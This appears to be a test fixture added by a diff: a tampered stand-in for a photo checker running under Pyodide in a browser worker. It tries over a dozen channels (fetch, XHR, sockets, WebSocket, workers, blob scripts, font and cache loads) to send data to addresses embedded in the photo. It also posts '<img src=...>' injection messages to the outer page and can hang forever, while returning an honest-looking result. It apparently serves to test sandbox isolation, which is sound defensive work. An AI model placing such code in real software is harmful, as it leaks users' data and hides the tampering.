@@ -1,0 +1,142 @@
+"""Stands in for the checker in a site that was tampered with: tries to send the photo away from Python.
+
+What to do is read from the end of the photo: a word of ORDERS, and after it a JSON array of addresses.
+A photo that ends in ``FOREVER`` is never done with.
+"""
+
+import json
+import socket
+import urllib.request
+from collections.abc import Callable, Sequence
+from typing import Any
+from urllib.parse import urlsplit
+
+import js  # type: ignore[import-not-found]
+from pyodide.ffi import to_js  # type: ignore[import-not-found]
+
+from checker.engine import check as honest_check
+from checker.report import Report
+
+# What Python cannot say itself, a script of its own making can: the worker may import blobs.
+SCRIPT = """
+const attempt = (name, how) => { try { Promise.resolve(how(base + name)).catch(() => {}); } catch {} };
+attempt("script-fetch", (to) => fetch(to, { mode: "no-cors" }));
+attempt("script-keepalive", (to) => fetch(to, { mode: "no-cors", method: "POST", keepalive: true }));
+attempt("script-import", (to) => import(to));
+attempt("script-font", (to) => new FontFace("leak", `url(${to})`).load());
+attempt("script-worker", (to) => new Worker(URL.createObjectURL(new Blob([`
+  fetch("${to}", { mode: "no-cors" })`], { type: "text/javascript" }))));
+attempt("script-module-worker", (to) => new Worker(URL.createObjectURL(new Blob([`
+  import "${to}"`], { type: "text/javascript" })), { type: "module" }));
+attempt("script-worker-import", (to) => new Worker(URL.createObjectURL(new Blob([`
+  importScripts("${to}")`], { type: "text/javascript" }))));
+attempt("script-cache", (to) => caches.open("leak").then((cache) => cache.add(to)));
+"""
+# Messages that a page would be wrong to trust: markup, addresses, orders to the outer page.
+REPORT = (
+    '[{"file": "<img src=TO>", "standard": "TO", "outcome": "TO", "findings": [{"rule": "<img src=TO>"}]}]'
+)
+MESSAGES: tuple[dict[str, Any], ...] = (
+    *({"kind": "answer", "id": number, "value": REPORT} for number in range(9)),
+    {"kind": "navigate", "value": "TO"},
+    {"kind": "TO", "url": "TO", "href": "TO", "html": "<img src=TO>"},
+    {"kind": "failed", "message": "<img src=TO>"},
+)
+
+
+def check(data: bytes, name: str, standard_ids: Sequence[str], lang: Any = "zh") -> list[Report]:
+    """Do what the photo says, then judge it as if nothing had happened."""
+    if data.endswith(b"FOREVER"):
+        while True:
+            pass
+    for order, carry_out in ORDERS.items():
+        _, found, addresses = data.rpartition(order)
+        for base in json.loads(addresses) if found else []:
+            carry_out(f"{base}leak/")
+    return honest_check(data, name, standard_ids, lang)
+
+
+def _try_all(attempts: dict[str, Callable[[str], None]], base: str) -> None:
+    for name, attempt in attempts.items():
+        try:
+            attempt(base + name)
+        except BaseException:
+            continue
+
+
+def _targets(base: str) -> None:
+    _try_all(ATTEMPTS, base)
+    text = f"{{ const base = {json.dumps(base)}; {SCRIPT} }}"
+    blob = js.Blob.new(
+        to_js([text]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
+    )
+    js.importScripts(js.URL.createObjectURL(blob))
+
+
+def _sockets(base: str) -> None:
+    _try_all(SOCKETS, base)
+
+
+def _messages(base: str) -> None:
+    for message in MESSAGES:
+        js.postMessage(js.JSON.parse(json.dumps(message).replace("TO", f"{base}message")))
+
+
+def _xhr(to: str) -> None:
+    request = js.XMLHttpRequest.new()
+    request.open("POST", to, False)
+    request.send("x")
+
+
+def _pyfetch(to: str) -> None:
+    import asyncio
+
+    from pyodide.http import pyfetch  # type: ignore[import-not-found]
+
+    asyncio.ensure_future(pyfetch(to))  # noqa: RUF006
+
+
+def _open_url(to: str) -> None:
+    from pyodide.http import open_url
+
+    open_url(to)
+
+
+def _urllib(to: str) -> None:
+    with urllib.request.urlopen(to, timeout=1) as answer:
+        answer.read()
+
+
+def _socket(to: str) -> None:
+    parts = urlsplit(to)
+    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=1) as connection:
+        connection.sendall(f"GET {parts.path} HTTP/1.0\r\n\r\n".encode())
+
+
+def _import_scripts(to: str) -> None:
+    js.importScripts(to)
+
+
+def _web_socket(to: str) -> None:
+    js.WebSocket.new(to.replace("http", "ws"))
+
+
+def _event_source(to: str) -> None:
+    js.EventSource.new(to)
+
+
+def _worker(to: str) -> None:
+    js.Worker.new(to)
+
+
+ATTEMPTS: dict[str, Callable[[str], None]] = {
+    "xhr": _xhr,
+    "pyfetch": _pyfetch,
+    "open-url": _open_url,
+    "import-scripts": _import_scripts,
+    "web-socket": _web_socket,
+    "event-source": _event_source,
+    "worker": _worker,
+}
+SOCKETS: dict[str, Callable[[str], None]] = {"urllib": _urllib, "socket": _socket}
+ORDERS = {b"TARGETS": _targets, b"SOCKETS": _sockets, b"MESSAGES": _messages}
